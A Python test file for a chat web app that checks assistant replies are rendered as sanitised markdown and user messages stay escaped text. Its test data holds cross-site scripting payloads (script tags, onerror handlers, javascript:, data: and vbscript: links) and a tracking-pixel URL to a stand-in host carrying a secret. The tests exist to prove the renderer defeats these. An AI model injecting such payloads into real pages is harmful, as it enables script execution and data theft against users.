"""Assistant replies are shown as markdown, rendered on the server and sanitised; nothing a model writes runs in the
page. User messages stay plain text."""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

import pytest

from tests.apps import openai_settings, running
from tests.browser import browser, sign_up_in
from tests.fake_openai import FakeOpenAI
from tests.helpers import parse_sse
from tests.test_chat_page import new_chat_by_page, stored
from webapp.markdown import LINK_REL, render_markdown

RICH = """Here is the plan:

- **first**, boil water
- *then* add `tea`

1. one
2. two

| Fruit | Price |
|:------|------:|
| apple | 1.20 |
| pear  | 0.90 |

```python
print("<hello>")
```
"""

HOSTILE = """<script>alert("script")</script>
<img src=x onerror="alert('img')">
<a href="javascript:alert('raw')">raw link</a> <iframe src="https://evil.example"></iframe>
[click](javascript:alert('md')) [data](data:text/html;base64,PHNjcmlwdD4=) [vb](vbscript:msgbox)
![pixel](https://evil.example/track.png?q=secret) <style>body{display:none}</style>
<div style="position:fixed" onclick="alert(1)">styled</div> <!-- a comment -->
"""


@dataclass
class Element:
    tag: str
    attrs: dict[str, str | None]


@dataclass
class Elements(HTMLParser):
    """Every start tag of an HTML fragment, in order, with its attributes, and the fragment's text."""

    found: list[Element] = field(default_factory=list)
    text: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append(Element(tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def tags(self) -> list[str]:
        return [element.tag for element in self.found]

    def all(self, tag: str) -> list[Element]:
        return [element for element in self.found if element.tag == tag]


def parse(html: str) -> Elements:
    parser = Elements()
    parser.feed(html)
    parser.close()
    return parser


def test_lists_tables_and_code_become_their_elements() -> None:
    html = str(render_markdown(RICH))
    page = parse(html)
    tags = page.tags()
    for tag in ("ul", "ol", "li", "strong", "em", "code", "table", "thead", "tbody", "th", "td", "pre", "button"):
        assert tag in tags, (tag, html)
    assert len(page.all("li")) == 4 and len(page.all("td")) == 4
    # Column alignment is a class (the CSP allows no inline style), and a table scrolls inside its own wrapper.
    assert [cell.attrs.get("class") for cell in page.all("th")] == ["align-left", "align-right"]
    assert '<div class="table-wrap"><table>' in html
    # A code block: its language, a copy button rendered here (chat.js binds it), and the code escaped, once.
    assert '<span class="code-lang">python</span>' in html
    (button,) = page.all("button")
    assert button.attrs == {"type": "button", "class": "copy-code"}
    assert '<pre><code>print("&lt;hello&gt;")\n</code></pre>' in html


def test_nothing_in_a_reply_can_run_or_load() -> None:
    html = str(render_markdown(HOSTILE))
    page = parse(html)
    assert set(page.tags()) <= {"p", "a"}, html
    for element in page.found:
        assert not any(name.startswith("on") or name in ("style", "src") for name in element.attrs), element
    # Links: only the http(s) ones survive, with rel and a new tab; the image became a link to click, never loaded.
    links = page.all("a")
    assert [link.attrs["href"] for link in links] == ["https://evil.example/track.png?q=secret"]
    assert links[0].attrs["rel"] == LINK_REL and links[0].attrs["target"] == "_blank"
    # Raw HTML is shown as the text the model wrote, not markup.
    text = "".join(page.text)
    assert '<script>alert("script")</script>' in text and "<img src=x" in text
    assert "javascript:" not in html.replace("javascript:alert('raw')", "").replace("[click](javascript:", "")


@pytest.mark.parametrize(
    "markdown",
    [
        "[x](JAVASCRIPT:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "<javascript:alert(1)>",
        "[x]( javascript:alert(1) )",
        "[x](data:image/svg+xml;base64,PHN2Zz4=)",
        "![x](data:image/png;base64,iVBORw0KGgo=)",
    ],
)
def test_script_and_data_links_are_never_links(markdown: str) -> None:
    html = str(render_markdown(markdown))
    assert not [link for link in parse(html).all("a") if "href" in link.attrs], html


def test_empty_and_plain_replies() -> None:
    assert render_markdown("") == "" and render_markdown(None) == ""
    assert str(render_markdown("Just text & <more>.")) == "<p>Just text &amp; &lt;more&gt;.</p>\n"


async def test_the_page_shows_a_stored_reply_as_markdown_and_the_question_as_typed(
    database_url: str, tmp_path: Path, upstream: FakeOpenAI
) -> None:
    upstream.reply_text = RICH + HOSTILE
    question = "Please use **bold**, a <b>tag</b> and\n- a list"
    async with running(openai_settings(database_url, tmp_path, upstream)) as app, browser(app) as http:
        token = await sign_up_in(http, "ada@example.com")
        session_id = await new_chat_by_page(http, token)
        sent = await http.post(
            f"/sessions/{session_id}/send",
            data={"content": question},
            headers={"X-CSRF-Token": token, "Accept": "text/event-stream"},
        )
        assert sent.status_code == 200, sent.text
        events = parse_sse(sent.text)
        tokens = "".join(data["delta"] for name, data in events if name == "token")
        assert tokens == RICH + HOSTILE  # the stream itself is the model's text; the page shows it as plain text
        name, done = events[-1]
        assert name == "done", events

        # Stored as written: the API gives the markdown back untouched.
        asked, reply = await stored(http, session_id)
        assert (asked["content"], reply["content"]) == (question, RICH + HOSTILE)

        chat = await http.get(f"/sessions/{session_id}", headers={"Accept": "text/html"})
        assert chat.status_code == 200
        history = chat.text.split('<div id="history"', 1)[1].split("<template", 1)[0]
        for html in (done["html"], history):
            bubbles = re.findall(r'<article class="message (user|assistant)".*?</article>', html, flags=re.S)
            assert len(bubbles) == 2, html
            user = re.search(r'<article class="message user".*?</article>', html, flags=re.S)
            assistant = re.search(r'<article class="message assistant".*?</article>', html, flags=re.S)
            assert user and assistant
            # The question as typed: escaped, no markup made of it.
            assert "Please use **bold**, a &lt;b&gt;tag&lt;/b&gt; and\n- a list" in user[0]
            typed = re.search(r'<div class="content">(.*?)</div>', user[0], flags=re.S)
            assert typed and parse(typed[1]).tags() == [], typed
            # The reply as markdown, sanitised: the page test's elements are there, nothing hostile.
            shown = parse(assistant[0])
            assert {"ul", "ol", "table", "pre", "strong", "button"} <= set(shown.tags()), assistant[0]
            assert not {"script", "img", "iframe", "style"} & set(shown.tags()), assistant[0]
            assert 'class="content markdown"' in assistant[0]
        # The placeholder a streaming reply is written into shows plain text (chat.js fills it as tokens come).
        placeholder = re.search(
            r'<template class="placeholder" data-role="assistant">(.*?)</template>', chat.text, re.S
        )
        assert placeholder and '<div class="content"></div>' in placeholder[1]
